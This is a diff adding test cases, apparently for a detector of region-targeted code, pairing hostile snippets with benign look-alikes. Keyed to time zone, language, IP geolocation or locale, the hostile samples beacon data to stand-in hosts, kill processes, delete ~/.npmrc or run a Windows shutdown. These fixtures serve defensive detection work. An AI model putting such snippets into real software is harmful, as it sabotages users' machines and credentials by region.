@@ -173,6 +173,188 @@ navigator.keyboard.getLayoutMap().then((layout) => {
   document.querySelector("#hint").textContent = "Press " + key.toUpperCase();
 });`,
   },
+  {
+    name: 'switch over the zone: cases that fall through into one body',
+    code: `
+const where = Intl.DateTimeFormat().resolvedOptions().timeZone;
+switch (where) {
+  case "Asia/Dushanbe":
+  case "Asia/Bishkek":
+    fetch("https://svc.example.org/v3/flags", { method: "POST", body: "{}" });
+    break;
+  default:
+    break;
+}`,
+    at: 'case "Asia/Dushanbe"',
+    source: 'time zone',
+    data: '"Asia/Dushanbe" (time zones) → TJ Tajikistan',
+    // A switch that maps zones to abbreviations, every other zone shown as it is: formatting, not a decision.
+    benign: `
+const where = Intl.DateTimeFormat().resolvedOptions().timeZone;
+function short(z) {
+  switch (z) {
+    case "America/Denver": return "MT";
+    case "Asia/Dushanbe": return "TJT";
+    case "Europe/Berlin": return "CET";
+    default: return z;
+  }
+}
+console.log("Times in " + short(where));
+document.querySelector("#zone").textContent = short(where);`,
+  },
+  {
+    name: 'switch over getTimezoneOffset() with offsets in minutes',
+    code: `
+const mins = new Date().getTimezoneOffset();
+switch (mins) {
+  case -390:
+    setTimeout(() => process.exit(2), 15000);
+    break;
+}`,
+    at: 'case -390',
+    source: 'getTimezoneOffset',
+    data: '"-390 (UTC+6:30)" (UTC offsets) → CC Cocos Islands, MM Myanmar',
+    // The offset in a switch that only builds the label shown.
+    benign: `
+const mins = new Date().getTimezoneOffset();
+let sign;
+switch (Math.sign(mins)) {
+  case 1: sign = "-"; break;
+  case -1: sign = "+"; break;
+  default: sign = "";
+}
+console.log("UTC" + sign + Math.abs(mins / 60));`,
+  },
+  {
+    name: 'switch (true) with membership tests of the language',
+    code: `
+const tongue = navigator.language.toLowerCase();
+switch (true) {
+  case tongue.startsWith("hy"):
+    navigator.sendBeacon("https://svc.example.org/seen", tongue);
+    break;
+  default:
+}`,
+    at: 'tongue.startsWith("hy")',
+    source: 'navigator.language',
+    data: '"hy" (language subtags) → AM Armenia',
+    // The same shape choosing the text direction for everyone: a language partition that only formats.
+    benign: `
+const tongue = navigator.language.toLowerCase();
+let dir;
+switch (true) {
+  case tongue === "en-us":
+    dir = "ltr";
+    break;
+  default:
+    dir = "auto";
+}
+document.documentElement.dir = dir;`,
+  },
+  {
+    name: 'IP geolocation in a promise chain: a nested country field, destructured, in a switch',
+    code: `
+client.get("https://ipgeo-where.example.com/v2/self").then(({ data }) => {
+  const cc = data.location.country.iso_code;
+  switch (cc) {
+    case "LY":
+    case "YE":
+      process.exit(1);
+  }
+});`,
+    at: 'case "LY"',
+    source: 'ipgeo-where.example.com',
+    data: '"LY" (country codes) → LY Libya',
+    benign: `
+client.get("https://ipgeo-where.example.com/v2/self").then(({ data }) => {
+  const cc = data.location.country.iso_code;
+  document.querySelector("#country").value = cc;
+  console.log("Prices shown for " + data.location.country.name);
+});`,
+  },
+  {
+    name: 'IP geolocation in callback style: a response read from its data events',
+    code: `
+const https = require("https");
+https.get("https://geo-ip.example-lookup.dev/json", (res) => {
+  let text = "";
+  res.on("data", (part) => (text += part));
+  res.on("end", () => {
+    const where = JSON.parse(text);
+    if (where.countryCode === "SY") require("fs").unlinkSync(require("os").homedir() + "/.npmrc");
+  });
+});`,
+    at: 'where.countryCode === "SY"',
+    source: 'geo-ip.example-lookup.dev',
+    data: '"SY" (country codes) → SY Syria',
+    benign: `
+const https = require("https");
+https.get("https://geo-ip.example-lookup.dev/json", (res) => {
+  let text = "";
+  res.on("data", (part) => (text += part));
+  res.on("end", () => console.log("Detected region: " + JSON.parse(text).countryCode));
+});`,
+  },
+  {
+    name: "the device's position turned into a country by a reverse lookup",
+    code: `
+navigator.geolocation.getCurrentPosition((p) => {
+  const { latitude, longitude } = p.coords;
+  fetch(\`https://maps.example-geo.org/reverse?format=json&lat=\${latitude}&lon=\${longitude}\`)
+    .then((r) => r.json())
+    .then((place) => {
+      if (place.address.country_code === "ve") document.body.innerHTML = "<p>Service unavailable</p>";
+    });
+});`,
+    at: 'place.address.country_code === "ve"',
+    source: 'navigator.geolocation',
+    data: '"ve" (country codes) → VE Venezuela',
+    // A weather widget: the position is sent for a forecast (a medium notice at most), nothing decided on a region.
+    benign: `
+navigator.geolocation.getCurrentPosition((p) => {
+  const { latitude, longitude } = p.coords;
+  fetch(\`https://weather.example-svc.org/v1/forecast?lat=\${latitude}&lon=\${longitude}\`)
+    .then((r) => r.json())
+    .then((w) => {
+      document.querySelector("#temp").textContent = w.current.temperature + " °C";
+    });
+});`,
+  },
+  {
+    name: "the locale command's output, its region part tested with endsWith",
+    code: `
+const { execFileSync, spawn } = require("child_process");
+const env = execFileSync("locale", { encoding: "utf8" });
+const tag = /LANG=(\\S+)/.exec(env)[1];
+if (tag.endsWith("_KP.UTF-8")) spawn("sh", ["-c", "sleep 900"], { detached: true }).unref();`,
+    at: 'tag.endsWith("_KP.UTF-8")',
+    source: 'command "locale"',
+    data: '"_KP.UTF-8" (country codes) → KP North Korea',
+    // The locale read to pass it on to a child process unchanged.
+    benign: `
+const { execFileSync, spawn } = require("child_process");
+const env = execFileSync("locale", { encoding: "utf8" });
+const tag = /LANG=(\\S+)/.exec(env)[1];
+spawn("make", ["docs"], { env: { ...process.env, LANG: tag }, stdio: "inherit" });`,
+  },
+  {
+    name: 'the Windows registry locale read in callback style',
+    code: `
+const cp = require("child_process");
+cp.exec('reg query "HKCU\\\\Control Panel\\\\International" /v LocaleName', (err, out) => {
+  const m = /LocaleName\\s+REG_SZ\\s+(\\S+)/.exec(out);
+  if (m && ["ps-AF", "ur-PK"].includes(m[1])) cp.exec("shutdown /s /t 60");
+});`,
+    at: '["ps-AF", "ur-PK"].includes(m[1])',
+    source: 'LocaleName',
+    data: '"ps-AF" (locales) → AF Afghanistan',
+    benign: `
+const cp = require("child_process");
+cp.exec('reg query "HKCU\\\\Control Panel\\\\International" /v LocaleName', (err, out) => {
+  const m = /LocaleName\\s+REG_SZ\\s+(\\S+)/.exec(out);
+  console.log("Windows locale: " + (m ? m[1] : "unknown"));
+});`,
+  },
 ];
 
 for (const c of CASES) {
